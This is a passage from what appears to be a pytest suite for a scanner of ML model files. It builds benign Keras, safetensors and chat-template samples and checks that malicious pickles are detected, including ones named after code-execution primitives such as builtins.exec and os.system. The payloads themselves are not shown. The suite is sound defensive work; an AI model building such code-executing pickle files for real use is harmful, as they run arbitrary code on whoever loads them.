                                   "torch_dtype": "bfloat16"}).encode()
    # Keras
    ok = kmodel(DENSE, layer("Dropout", {"name": "dr", "rate": 0.1}),
                layer("BatchNormalization", {"name": "bn", "axis": -1}),
                layer("Dense", {"name": "out", "units": 2, "activation": "softmax"}))
    functional = {"module": "keras.src.models.functional", "class_name": "Functional", "config": {
        "name": "f", "layers": [layer("InputLayer", {"batch_shape": [None, 8], "name": "in"}),
                                layer("Conv1D", {"name": "c", "filters": 4, "kernel_size": 3,
                                                 "activation": layer("function", "relu", "keras.activations")}),
                                layer("LayerNormalization", {"name": "ln", "epsilon": 1e-6}),
                                layer("StringLookup", {"name": "sl", "vocabulary": ["a", "b"]})],
        "input_layers": [["in", 0, 0]], "output_layers": [["ln", 0, 0]]}, "registered_name": "Functional"}
    s["keras_dense.keras"] = keras_zip(ok)
    s["keras_functional.keras"] = keras_zip(functional)
    s["keras_dense.h5"] = h5_with(
        {"class_name": "Sequential", "config": {"name": "s", "layers": [
            {"class_name": "Dense", "config": {"name": "d", "units": 3, "activation": "relu"}}]},
         "keras_version": "2.15.0", "backend": "tensorflow"},
        training={"loss": "categorical_crossentropy", "metrics": ["accuracy"],
                  "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}},
    )
    # Chat templates
    for i, tpl in enumerate(BENIGN_TEMPLATES):
        s[f"btpl{i}_tokenizer_config.json"] = json.dumps(
            {"bos_token": "<s>", "eos_token": "</s>", "chat_template": tpl, "model_max_length": 4096}
        ).encode()
        s[f"btpl{i}.jinja"] = tpl.encode()
        s[f"btpl{i}.gguf"] = gguf_bytes([("general.architecture", 8, "llama"), ("tokenizer.chat_template", 8, tpl)])
    s["btpl_list_tokenizer_config.json"] = json.dumps(
        {"chat_template": [{"name": "default", "template": BENIGN_TEMPLATES[1]},
                           {"name": "tool_use", "template": BENIGN_TEMPLATES[4]},
                           {"name": "rag", "template": BENIGN_TEMPLATES[5]}]}
    ).encode()
    return s


def _safetensors() -> bytes:
    header = {"__metadata__": {"format": "pt"},
              "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
              "b": {"dtype": "BF16", "shape": [4], "data_offsets": [16, 24]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 24


# ============================================================== scanning
SEVERE = ("critical", "high")


def _scan_all(samples: dict[str, bytes], root: Path) -> dict[str, list]:
    root.mkdir(parents=True, exist_ok=True)
    out: dict[str, list] = {}
    for name, data in samples.items():
        path = root / name
        path.write_bytes(data)
        result = scan_artifacts(open_local(str(path)))
        out[name] = result.findings
    return out


@pytest.fixture(scope="module")
def malicious_results(tmp_path_factory) -> dict[str, list]:
    return _scan_all(malicious_samples(), tmp_path_factory.mktemp("malicious"))


@pytest.fixture(scope="module")
def benign_results(tmp_path_factory) -> dict[str, list]:
    return _scan_all(benign_samples(), tmp_path_factory.mktemp("benign"))


def _flagged(findings: list) -> bool:
    return any(f.severity in SEVERE for f in findings)


def test_bypass_recall_and_false_positives(malicious_results, benign_results) -> None:
    missed = sorted(n for n, f in malicious_results.items() if not _flagged(f))
    noisy = {n: [f"{f.severity}:{f.rule}:{f.detail[:100]}" for f in fs if f.severity in SEVERE]
             for n, fs in benign_results.items() if _flagged(fs)}
    n_mal, n_ben = len(malicious_results), len(benign_results)
    recall = (n_mal - len(missed)) / n_mal
    fp_rate = len(noisy) / n_ben
    print(f"\nbypass suite: recall {n_mal - len(missed)}/{n_mal} = {recall:.1%}; "
          f"false positives {len(noisy)}/{n_ben} = {fp_rate:.1%}")
    for name in missed:
        print("  MISSED", name)
    for name, why in noisy.items():
        print("  FALSE POSITIVE", name, why[:2])
    assert not missed, f"missed {len(missed)}: {missed}"
    assert not noisy, f"false positives {len(noisy)}: {sorted(noisy)}"


def test_benign_samples_stay_quiet_at_medium_for_known_libraries(benign_results) -> None:
    """Allow-listed library streams (torch, numpy, sklearn, pandas, joblib, stdlib) produce no finding at all
    (type(None) stays a medium "unverified": builtins.type is deliberately not allow-listed)."""
    quiet_prefixes = ("std_", "np_", "torch_state", "torch_params", "torch_legacy", "sklearn_", "pandas_", "joblib_")
    loud = {n: [f"{f.severity}:{f.detail[:90]}" for f in fs if f.severity in ("medium", *SEVERE)]
            for n, fs in benign_results.items() if n.startswith(quiet_prefixes) and "none_types" not in n}
    loud = {n: v for n, v in loud.items() if v}
    assert not loud, loud


def test_malicious_pickles_are_critical_when_code_runs(malicious_results) -> None:
    """Direct calls of code-execution primitives are critical, not merely high."""
    for name in ("call_p2_builtins.exec.pkl", "call_p4_os.system.bin", "getattr_import_os_system.pkl",
                 "memo_stack_global.pkl", "p0_inst.pkl", "p1_obj.pkl", "ext1_registered.pkl",
                 "call_p2_numpy.core.multiarray._reconstruct.__globals__.pkl"):
        assert any(f.severity == "critical" for f in malicious_results[name]), name


def test_findings_name_members_inside_containers(malicious_results) -> None:
    paths = [f.path for f in malicious_results["zip_in_tar_in_gzip.tar.gz"] if f.severity in SEVERE]
    assert any(p.count("!") >= 2 and p.endswith("data.pkl") for p in paths), paths
